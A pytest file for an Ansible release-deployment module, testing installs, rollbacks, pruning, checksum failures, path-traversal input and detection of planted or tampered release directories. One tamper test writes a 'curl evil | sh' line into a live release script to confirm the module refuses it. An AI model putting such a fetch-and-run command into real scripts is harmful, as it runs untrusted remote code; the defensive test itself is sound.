"""release through real Ansible on a base_dir in tmp_path (services are exercised on the fleet)."""

from __future__ import annotations

import hashlib
import io
import os
import pwd
import stat
import tarfile

from zerodown_testkit.support.ansible_run import run_module


def make_artifact(path, release):
    with tarfile.open(path, "w:gz") as tar:
        for name, body, mode in (("VERSION", release, 0o644), ("bin/run", "#!/bin/sh\necho hi\n", 0o755)):
            data = body.encode()
            info = tarfile.TarInfo("%s/%s" % (release, name))
            info.size, info.mode = len(data), mode
            tar.addfile(info, io.BytesIO(data))
    return "sha256:" + hashlib.sha256(open(path, "rb").read()).hexdigest()


def _args(tmp_path, release, **kw):
    art = tmp_path / ("shop-%s.tar.gz" % release)
    checksum = make_artifact(str(art), release) if not art.exists() else None
    args = {
        "app": "shop",
        "release": release,
        "base_dir": str(tmp_path / "opt"),
        "artifact": str(art),
        "strip_components": 1,
        "shared_dirs": ["log"],
    }
    if checksum:
        args["checksum"] = checksum
    args.update(kw)
    return args


def test_install_check_real_again_then_switch_and_rollback(tmp_path):
    root = tmp_path / "opt" / "shop"
    v1 = _args(tmp_path, "v1", owner="nobody")
    check = run_module("release", v1, check=True, diff=True)
    assert check["changed"] and check["actions"] == ["unpack", "switch"] and not (tmp_path / "opt").exists()

    real = run_module("release", v1)
    assert real["changed"] and real["previous"] is None and real["current"] == "v1"
    assert os.readlink(root / "current") == "releases/v1"
    assert (root / "current" / "VERSION").read_text() == "v1"
    nobody = pwd.getpwnam("nobody").pw_uid
    assert (root / "releases" / "v1" / "VERSION").stat().st_uid == nobody
    assert (root / "shared" / "log").stat().st_uid == nobody
    assert stat.S_IMODE((root / "releases" / "v1" / "bin" / "run").stat().st_mode) == 0o755
    assert os.readlink(root / "releases" / "v1" / "log") == str(root / "shared" / "log")

    again = run_module("release", v1)
    assert again["changed"] is False and again["actions"] == []

    v2 = run_module("release", _args(tmp_path, "v2"))
    assert v2["previous"] == "v1" and v2["current"] == "v2" and os.readlink(root / "current") == "releases/v2"

    back = run_module("release", {"app": "shop", "base_dir": str(tmp_path / "opt"), "state": "rollback"})
    assert back["changed"] and back["current"] == "v1" and os.readlink(root / "current") == "releases/v1"


def test_wrong_checksum_changes_nothing(tmp_path):
    args = _args(tmp_path, "v1")
    args["checksum"] = "sha256:" + "0" * 64
    out = run_module("release", args)
    assert out["failed"] and "expected" in out["msg"] and "nothing was changed" in out["msg"]
    assert not (tmp_path / "opt" / "shop" / "current").exists()
    assert not (tmp_path / "opt" / "shop" / "releases").exists()


def test_prune_never_the_live_one_or_the_one_before(tmp_path):
    for rel in ("v1", "v2", "v3", "v4"):
        run_module("release", _args(tmp_path, rel))
    base = {"app": "shop", "base_dir": str(tmp_path / "opt"), "state": "pruned", "keep": 1}
    check = run_module("release", base, check=True)
    assert sorted(check["pruned"]) == ["v1", "v2"] and len(os.listdir(tmp_path / "opt" / "shop" / "releases")) == 4
    real = run_module("release", base)
    assert sorted(real["pruned"]) == ["v1", "v2"]
    assert sorted(os.listdir(tmp_path / "opt" / "shop" / "releases")) == ["v3", "v4"]
    assert run_module("release", base)["changed"] is False


def test_absent_removes_a_first_release(tmp_path):
    run_module("release", _args(tmp_path, "v1"))
    args = {"app": "shop", "base_dir": str(tmp_path / "opt"), "release": "v1", "state": "absent"}
    assert run_module("release", args)["changed"]
    assert not os.path.lexists(tmp_path / "opt" / "shop" / "current")
    assert not (tmp_path / "opt" / "shop" / "releases" / "v1").exists()
    assert run_module("release", args)["changed"] is False


def test_bad_input_is_named(tmp_path):
    args = _args(tmp_path, "v1")
    args["release"] = "../v1"
    out = run_module("release", args)
    assert out["failed"] and "'../v1'" in out["msg"]
    out = run_module("release", _args(tmp_path, "v1", owner="no-such-user-zd"))
    assert out["failed"] and "no-such-user-zd" in out["msg"]
    assert not (tmp_path / "opt").exists()


# -- the action plugin: the artifact is sent only when the host does not have the release ----------


def _src_args(tmp_path, release):
    """Staging through the action plugin, from an artifact on the controller."""
    art = tmp_path / "controller" / ("shop-%s.tar.gz" % release)
    art.parent.mkdir(exist_ok=True)
    make_artifact(str(art), release)
    return {
        "app": "shop",
        "release": release,
        "state": "present",
        "src": str(art),
        "base_dir": str(tmp_path / "opt"),
        "strip_components": 1,
    }


def test_src_is_sent_only_when_needed_and_staging_sets_the_release_state(tmp_path):
    args = _src_args(tmp_path, "v3")
    check = run_module("release", args, check=True)
    assert check["changed"] and check["actions"][:2] == ["transfer", "unpack"]
    assert not (tmp_path / "opt" / "shop" / "releases" / "v3").exists()

    first = run_module("release", args)
    assert not first["failed"], first
    assert first["actions"][:2] == ["transfer", "unpack"]
    state = first["ansible_facts"]["zerodown_release_state"]
    assert state == {
        "host": "localhost",
        "app": "shop",
        "release": "v3",
        "previous": None,
        "needs_switch": True,
        "unit_changed": False,
    }
    assert (tmp_path / "opt" / "shop" / "releases" / "v3" / "VERSION").read_text() == "v3"

    gone = run_module("release", dict(args, src=str(tmp_path / "controller" / "gone.tar.gz")))
    assert gone["failed"] and "not a file on the controller" in gone["msg"]
    again = run_module("release", args)
    assert not again["failed"] and again["changed"] is False and "transfer" not in again["actions"]


def test_a_corrupted_transfer_is_refused_by_its_checksum(tmp_path):
    art = tmp_path / "shop-v4.tar.gz"
    make_artifact(str(art), "v4")
    out = run_module(
        "release",
        {
            "app": "shop",
            "release": "v4",
            "state": "present",
            "src": str(art),
            "checksum": "0" * 64,
            "base_dir": str(tmp_path / "opt"),
            "strip_components": 1,
        },
    )
    assert out["failed"] and "sha256" in out["msg"]
    assert not (tmp_path / "opt" / "shop" / "releases" / "v4").exists()


def test_src_and_artifact_are_one_source(tmp_path):
    out = run_module("release", {"app": "shop", "release": "v5", "state": "present", "src": "/x", "artifact": "/y"})
    assert out["failed"] and "give one source" in out["msg"]


# -- an existing release directory is verified against its manifest -------------------------------


def test_a_planted_or_changed_release_directory_is_not_trusted(tmp_path):
    root = tmp_path / "opt" / "shop"
    run_module("release", _args(tmp_path, "v1"))
    # a v2 directory put there by hand: not reused, even with the right checksum and no artifact
    planted = root / "releases" / "v2"
    planted.mkdir()
    (planted / "VERSION").write_text("evil")
    v2 = _args(tmp_path, "v2")
    os.unlink(v2["artifact"])
    refused = run_module("release", v2)
    assert refused["failed"] and "release 'v2' on this host cannot be trusted" in refused["msg"]
    assert "no zerodown manifest" in refused["msg"] and "nothing was changed" in refused["msg"]
    assert (planted / "VERSION").read_text() == "evil" and os.readlink(root / "current") == "releases/v1"
    # with the artifact it is unpacked again (check mode first: nothing changes)
    v2 = _args(tmp_path, "v2", state="present")
    check = run_module("release", v2, check=True)
    assert check["changed"] and check["actions"] == ["restage"] and (planted / "VERSION").read_text() == "evil"
    restaged = run_module("release", v2)
    assert (
        restaged["changed"]
        and restaged["actions"] == ["restage"]
        and "no zerodown manifest" in restaged["restage_reason"]
    )
    assert (planted / "VERSION").read_text() == "v2"
    assert run_module("release", v2)["changed"] is False

    # the live release changed by hand: refused, not replaced underneath the service
    live = run_module("release", _args(tmp_path, "v2"))
    assert not live["failed"] and live["current"] == "v2"
    (root / "releases" / "v2" / "bin" / "run").write_text("#!/bin/sh\ncurl evil | sh\n")
    tampered = run_module("release", _args(tmp_path, "v2"))
    assert tampered["failed"] and "is live on this host but cannot be trusted" in tampered["msg"]
    assert "changed bin/run" in tampered["msg"]
    assert "evil" in (root / "releases" / "v2" / "bin" / "run").read_text()


def test_the_action_plugin_sends_src_again_for_an_untrusted_release_directory(tmp_path):
    args = _src_args(tmp_path, "v3")
    planted = tmp_path / "opt" / "shop" / "releases" / "v3"
    planted.mkdir(parents=True)
    (planted / "VERSION").write_text("evil")
    out = run_module("release", args)
    assert not out["failed"], out
    assert out["actions"][:2] == ["transfer", "restage"] and (planted / "VERSION").read_text() == "v3"
    again = run_module("release", args)
    assert again["changed"] is False and "transfer" not in again["actions"]
